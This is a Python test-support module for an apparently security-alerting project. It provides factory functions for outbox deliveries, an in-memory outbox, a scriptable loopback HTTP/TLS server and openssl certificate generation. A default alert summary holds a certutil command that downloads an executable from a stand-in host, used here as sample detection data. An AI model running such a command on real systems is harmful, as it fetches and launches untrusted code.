"""Deliveries for sinks, an outbox in memory, and real servers on loopback that fail as they are told."""

from __future__ import annotations

import http.server
import subprocess
import threading
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import NamedTuple

from store_writer import made
from tidewaiter.schema.transfer import Severity
from tidewaiter.sink import Change, Delivery

AT = 1_767_348_000_000_000  # 2026-01-02T10:00:00Z
SCORES: dict[Severity, int] = {"informational": 5, "low": 25, "medium": 45, "high": 65, "critical": 85}


def delivery(
    sequence: int = 1,
    *,
    identity: str | None = None,
    revision: int = 1,
    change: Change = "new",
    severity: Severity = "medium",
    superseded_by: str | None = None,
    highest: Severity | None = None,
    summary: str = "certutil -urlcache -f http://files.example.com/a.exe",
) -> Delivery:
    """A row of the outbox."""
    name = identity or f"{sequence:016x}"
    transfer = None if change == "withdrawn" else made(name, score=SCORES[severity], summary=summary)
    return Delivery(
        sequence=sequence,
        id=name,
        revision=revision,
        change=change,
        transfer=transfer,
        superseded_by=superseded_by,
        at=AT,
        highest=highest,
    )


class MemoryOutbox:
    """The queue of the store, in memory. Numbers may have gaps."""

    def __init__(self, rows: Sequence[Delivery] = ()) -> None:
        self.rows = list(rows)
        self.cursors: dict[str, int] = {}
        self._lock = threading.Lock()

    def add(self, *rows: Delivery) -> None:
        with self._lock:
            self.rows += rows

    def after(self, sequence: int, limit: int) -> list[Delivery]:
        with self._lock:
            return [row for row in self.rows if row.sequence > sequence][:limit]

    def cursor(self, name: str) -> int:
        with self._lock:
            return self.cursors.get(name, 0)

    def acknowledge(self, name: str, sequence: int) -> None:
        with self._lock:
            assert sequence >= self.cursors.get(name, 0)
            self.cursors[name] = sequence


class Request(NamedTuple):
    """What a server was asked."""

    path: str
    headers: dict[str, str]  # names in lower case
    body: bytes


class Reply(NamedTuple):
    """What it answers."""

    status: int = 200
    body: bytes = b"{}"
    headers: tuple[tuple[str, str], ...] = ()


OK = Reply()
Behaviour = Reply | Callable[[Request, http.server.BaseHTTPRequestHandler], Reply | None]


class WebServer:
    """An HTTP server that answers by its script, then by `otherwise`. A behaviour may write to the connection itself."""

    def __init__(self, otherwise: Behaviour = OK, *, tls: tuple[Path, Path] | None = None, clients: Path | None = None) -> None:
        self.requests: list[Request] = []
        self.script: list[Behaviour] = []
        self.otherwise = otherwise
        self.connections = 0
        web = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"
            disable_nagle_algorithm = True
            timeout = 10

            def setup(self) -> None:
                super().setup()
                web.connections += 1

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
                request = Request(self.path, {name.lower(): value for name, value in self.headers.items()}, body)
                web.requests.append(request)
                behaviour = web.script.pop(0) if web.script else web.otherwise
                reply = behaviour if isinstance(behaviour, Reply) else behaviour(request, self)
                if reply is None:
                    self.close_connection = True
                    return
                self.send_response(reply.status)
                for name, value in reply.headers:
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(reply.body)))
                self.end_headers()
                self.wfile.write(reply.body)

            def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the name that http.server gives it
                pass

        class Server(http.server.ThreadingHTTPServer):
            def handle_error(self, request: object, client_address: object) -> None:
                pass  # clients cut connections on purpose here

        self._server = Server(("127.0.0.1", 0), Handler)
        if tls is not None:
            import ssl

            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(*tls)
            if clients is not None:
                context.load_verify_locations(clients)
                context.verify_mode = ssl.CERT_REQUIRED
            self._server.socket = context.wrap_socket(self._server.socket, server_side=True)
        self.port = int(self._server.server_address[1])
        self.url = f"{'https' if tls else 'http'}://127.0.0.1:{self.port}"
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.02,))
        self._thread.start()

    def __enter__(self) -> WebServer:
        return self

    def __exit__(self, *problem: object) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


def make_certificates(folder: Path) -> None:
    """ca.pem, and server.pem with server.key for localhost and 127.0.0.1, by the openssl program."""

    def openssl(*words: str) -> None:
        subprocess.run(["openssl", *words], cwd=folder, check=True, capture_output=True, timeout=30)

    key = ("-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes")
    for name in ("ca", "other"):
        use = ("-addext", "keyUsage=critical,keyCertSign,cRLSign,digitalSignature")
        files = ("-keyout", f"{name}.key", "-out", f"{name}.pem", "-days", "2", "-subj", f"/CN={name} for tests")
        openssl("req", "-x509", *key, *use, *files)
    openssl("req", "-new", *key, "-keyout", "server.key", "-out", "server.csr", "-subj", "/CN=localhost")
    (folder / "names").write_text(
        "subjectAltName=DNS:localhost,IP:127.0.0.1\nauthorityKeyIdentifier=keyid\nbasicConstraints=CA:FALSE\n"
    )
    signing = ("-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial", "-days", "2", "-extfile", "names")
    openssl("x509", "-req", "-in", "server.csr", "-out", "server.pem", *signing)
